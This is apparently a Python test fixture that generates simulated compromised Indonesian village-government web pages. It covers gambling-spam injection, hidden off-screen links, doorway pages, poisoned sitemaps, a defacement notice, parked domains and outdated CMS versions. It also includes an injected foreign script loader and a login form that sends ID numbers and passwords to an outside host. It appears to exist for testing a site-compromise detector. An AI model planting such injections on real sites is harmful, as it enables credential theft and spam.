"""Pages that are not a site's own, or not only: injected, defaced, parked, neglected – and two that are fine."""

from __future__ import annotations

import secrets
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from html import escape

from tests.lab import files, pages
from tests.lab.faults import PageName
from tests.lab.messages import Request, answer
from tests.lab.town import GAMBLING, STRANGER, Resident

OLD = timedelta(days=3 * 365)
"""Age of the newest article of an abandoned site."""
_LINKS = 24

Page = Callable[[Resident, Request], bytes]


def served(name: PageName, resident: Resident, request: Request) -> bytes | None:
    """What the page *name* answers to *request*, as a whole answer; None where the site's own answer stands."""
    path = request.path.partition("?")[0]
    if name in _ANYWHERE:
        return _ANYWHERE[name](resident, request)
    return _HOME[name](resident, request) if name in _HOME and path in resident.paths else None


def _html(text: str, status: int = 200) -> bytes:
    return answer(status, text.encode())


def own(resident: Resident) -> str:
    """The site's own page."""
    return b"".join(pages.page(resident)).decode()


def _after(resident: Resident, mark: str, more: str) -> bytes:
    """The site's own page with *more* after the first *mark*."""
    before, found, after = own(resident).partition(mark)
    assert found, mark
    return _html(f"{before}{found}\n{more}\n{after}")


def _instead(resident: Resident, main: str) -> bytes:
    """The site's own page with *main* in place of what is between its menu and its foot."""
    before, _, rest = own(resident).partition("<main>")
    return _html(f"{before}<main>{main}</main>{rest.partition('</main>')[2]}")


def _warning(resident: Resident, request: Request) -> bytes:
    article = (
        '<article><h2><a href="/artikel/bahaya-judi-online">Bahaya Judi Online bagi Keluarga</a></h2>\n'
        "<p>Pemerintah Kabupaten Purbalingga mengajak warga menjauhi judi online dan slot online. Bupati mengimbau"
        " seluruh perangkat desa melakukan sosialisasi pencegahan judi online, sebab korban kehilangan tabungan, dan"
        " pelakunya diancam pidana menurut UU ITE. Laporkan situs judi ke aduankonten.id. Kominfo telah memblokir"
        " ribuan situs judi.</p></article>"
    )
    return _after(resident, "<main>", article)


def _dynamic(resident: Resident, request: Request) -> bytes:
    """Differs each time, and is well all the same."""
    token = secrets.token_hex(16)
    words = " ".join(secrets.choice(pages.WORDS) for _word in range(120))
    text = own(resident)
    agent = "Tampilan ponsel" if "mobile" in request.low.decode("latin-1") else "Tampilan komputer"
    parts = (
        f'<form action="/cari" method="get"><input type="hidden" name="csrf" value="{token}"><input name="q"></form>',
        f'<section id="acak"><h2>Berita {secrets.randbelow(900)}</h2><p>{words.capitalize()}.</p></section>',
        f"<p>Pengunjung hari ini: {secrets.randbelow(90_000)}. {agent}.</p>",
        f'<p><a href="https://iklan{secrets.randbelow(9)}.example/?k={token}">Pariwara</a></p>',
    )
    before, found, after = text.partition("<main>")
    return _html(before + found + "\n".join(parts) + after)


def _gambling(resident: Resident, request: Request) -> bytes:
    block = (
        f'<section><h2>Situs Slot Gacor Gampang Maxwin Hari Ini</h2><p>Daftar <a href="https://{GAMBLING}/daftar">slot'
        f' gacor</a> terpercaya, <a href="https://{GAMBLING}/slot88">slot88</a>, RTP live tertinggi, togel online,'
        " scatter hitam, bonus new member 100%, depo 10k via QRIS, link alternatif anti rungkad.</p></section>"
    )
    return _after(resident, "<main>", block)


def _hidden_links(resident: Resident, request: Request) -> bytes:
    names = ("slot gacor", "slot88", "togel online", "situs slot maxwin", "rtp live", "slot thailand")
    links = "".join(
        f'<a href="https://{GAMBLING}/{number}">{names[number % len(names)]}</a> ' for number in range(_LINKS)
    )
    return _after(resident, "<body>", f'<div style="position:absolute;left:-9999px;top:-9999px">{links}</div>')


def casino(resident: Resident, status: int = 200) -> bytes:
    """A lander for gambling under the site's name, as an answer."""
    called = "SLOT GACOR: Daftar Situs Slot88 Gampang Maxwin Hari Ini"
    items = "".join(
        f'<li><a href="https://{GAMBLING}/daftar?ref={number}">Slot Gacor Maxwin {number}</a></li>'
        for number in range(12)
    )
    address = f"https://{resident.host}/"
    return _html(
        f'<!DOCTYPE html>\n<html lang="id"><head><meta charset="utf-8"><title>{called}</title>\n'
        f'<meta name="description" content="Situs slot gacor terpercaya, RTP live tertinggi, togel online, slot88.">\n'
        f'<meta property="og:title" content="{called}"><link rel="canonical" href="{address}">\n'
        f'<link rel="amphtml" href="https://{GAMBLING}/amp/"></head><body><h1>{called}</h1>\n'
        "<p>Bonus new member 100%, depo 10k via QRIS dan DANA, scatter hitam Mahjong Ways, Gates of Olympus, Pragmatic"
        f" Play, RTP live hari ini, bandar togel online terpercaya, anti rungkad.</p><ul>{items}</ul></body></html>\n",
        status,
    )


def _casino(resident: Resident, request: Request) -> bytes:
    return casino(resident)


def _doorway(resident: Resident, request: Request) -> bytes | None:
    path = request.path.partition("?")[0]
    known = path in resident.paths or path in files.PATHS or path.startswith("/.well-known/")
    return None if known else casino(resident)


def _poisoned_sitemap(resident: Resident, request: Request) -> bytes | None:
    if request.path == files.ROBOTS:
        return files.robots(resident, f"Sitemap: https://{GAMBLING}/sitemap.xml")
    if request.path != files.SITEMAP:
        return None
    base = f"https://{resident.host}"
    slugs = ("slot-gacor-hari-ini", "situs-slot88-maxwin", "togel-online-terpercaya", "rtp-live-slot")
    return files.sitemap(resident, *(f"{base}/{slugs[number % 4]}-{number}/" for number in range(80)))


def _defaced(resident: Resident, request: Request) -> bytes:
    return _html(
        "<!DOCTYPE html>\n<html><head><title>Hacked By Tuan Nol</title></head>"
        '<body bgcolor="black" text="red"><center><h1>HACKED BY Tuan Nol</h1><p>Your security is low, admin!</p>\n'
        "<p>Greetz: Tim Bayangan | Indonesian Defacer</p><marquee>We are everywhere</marquee></center></body></html>\n"
    )


def _emptied(resident: Resident, request: Request) -> bytes:
    return _html('<!DOCTYPE html>\n<html lang="id"><head><title></title></head><body></body></html>\n')


def _thai(resident: Resident, request: Request) -> bytes:
    text = (
        "ยินดีต้อนรับสู่เว็บไซต์ของเรา เรามีข่าวสารและบทความใหม่ทุกวัน สำหรับผู้อ่านทุกท่านที่สนใจเรื่องราวต่างๆ "
        "ติดตามข้อมูลล่าสุดได้ที่นี่ พร้อมทั้งกิจกรรมและบริการมากมาย "
    )
    return _html(
        '<!DOCTYPE html>\n<html lang="th"><head><meta charset="utf-8"><title>ยินดีต้อนรับ</title></head><body>'
        f"<h1>ข่าวสารวันนี้</h1><p>{text * 3}</p></body></html>\n"
    )


def _parked(resident: Resident, request: Request) -> bytes:
    host = escape(resident.host)
    return _html(
        f"<!DOCTYPE html>\n<html><head><title>{host} is for sale</title></head><body><h1>{host}</h1>"
        "<p>This domain is for sale. Buy this domain. Related searches: travel, insurance, loans.</p>"
        f'<script src="https://img.sedoparking.com/js/jquery.js"></script><a href="https://sedo.com/search/?q={host}">'
        "Inquire about this domain</a></body></html>\n"
    )


def _default_page(resident: Resident, request: Request) -> bytes:
    return _html(
        "<!DOCTYPE html>\n<html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1>"
        "<p>If you see this page, the nginx web server is successfully installed and working. Further configuration is"
        ' required.</p><p>For online documentation and support please refer to <a href="http://nginx.org/">nginx.org</a>.'
        "</p><p><em>Thank you for using nginx.</em></p></body></html>\n"
    )


def _elsewhere(resident: Resident, request: Request) -> bytes:
    articles = "<article><h2>Kegiatan desa</h2><p>Warga bergotong royong memperbaiki jalan desa bersama.</p></article>"
    return _html(
        '<!DOCTYPE html>\n<html lang="id"><head><meta charset="utf-8">'
        "<title>Website Resmi Desa Sukamaju – Kabupaten Banjarnegara</title></head><body>"
        "<header><h1>Desa Sukamaju</h1><p>Kecamatan Mandiraja, Kabupaten Banjarnegara, Jawa Tengah</p></header>"
        f"<main>{articles * 12}</main><footer><p>Pemerintah Desa Sukamaju, Kabupaten Banjarnegara. Kode pos 53473.</p>"
        "</footer></body></html>\n"
    )


def _old(generator: str, footer: str) -> Page:
    """The site's own page, made by what nobody should run any more."""

    def page(resident: Resident, request: Request) -> bytes:
        before, _, after = own(resident).partition('<meta name="generator" content="')
        text = f'{before}<meta name="generator" content="{generator}{after[after.index(chr(34)) :]}'
        return _html(text.replace(pages.OPENSID, "").replace("<footer>", f"<footer><p>Didukung {footer}</p>"))

    return page


def _abandoned(resident: Resident, request: Request) -> bytes | None:
    if request.path == files.FEED:
        return files.feed(resident, OLD)
    if request.path == files.SITEMAP:
        return files.sitemap(resident, age=OLD)
    day = datetime.now(UTC).date() - OLD
    article = f"<article><h2>Kegiatan terakhir</h2><p>{day.day:02}-{day.month:02}-{day.year}</p></article>"
    return _instead(resident, article * 20) if request.path.partition("?")[0] in resident.paths else None


def _foreign_script(resident: Resident, request: Request) -> bytes:
    return _after(resident, "<body>", f'<script src="https://{STRANGER}/x/loader.js"></script>')


def _foreign_frame(resident: Resident, request: Request) -> bytes:
    return _after(resident, "<main>", f'<iframe src="https://{STRANGER}/bingkai" width="100%" height="600"></iframe>')


def _foreign_form(resident: Resident, request: Request) -> bytes:
    form = (
        f'<form action="https://{STRANGER}/masuk.php" method="post"><label>NIK <input name="nik"></label>'
        '<label>Kata sandi <input type="password" name="sandi"></label><button>Masuk</button></form>'
    )
    return _after(resident, "<main>", form)


def _blocked(resident: Resident, request: Request) -> bytes:
    return _html("<!DOCTYPE html><title>403 Forbidden</title><h1>Forbidden</h1>", 403)


_HOME: Mapping[PageName, Page] = {
    PageName.WARNING: _warning,
    PageName.DYNAMIC: _dynamic,
    PageName.GAMBLING: _gambling,
    PageName.HIDDEN_LINKS: _hidden_links,
    PageName.CASINO: _casino,
    PageName.DEFACED: _defaced,
    PageName.EMPTIED: _emptied,
    PageName.THAI: _thai,
    PageName.PARKED: _parked,
    PageName.DEFAULT_PAGE: _default_page,
    PageName.ELSEWHERE: _elsewhere,
    PageName.OLD_OPENSID: _old("OpenSID", "OpenSID 21.01"),
    PageName.OLD_WORDPRESS: _old("WordPress 4.9.1", "WordPress 4.9.1"),
    PageName.DEAD_WORDPRESS: _old("WordPress 4.1", "WordPress 4.1"),
    PageName.FOREIGN_SCRIPT: _foreign_script,
    PageName.FOREIGN_FRAME: _foreign_frame,
    PageName.FOREIGN_FORM: _foreign_form,
}
"""At the addresses that the site has."""
_ANYWHERE: Mapping[PageName, Callable[[Resident, Request], bytes | None]] = {
    PageName.DOORWAY: _doorway,
    PageName.POISONED_SITEMAP: _poisoned_sitemap,
    PageName.ABANDONED: _abandoned,
    PageName.BLOCKED: _blocked,
}
"""At any address."""

assert {*_HOME, *_ANYWHERE} == set(PageName)
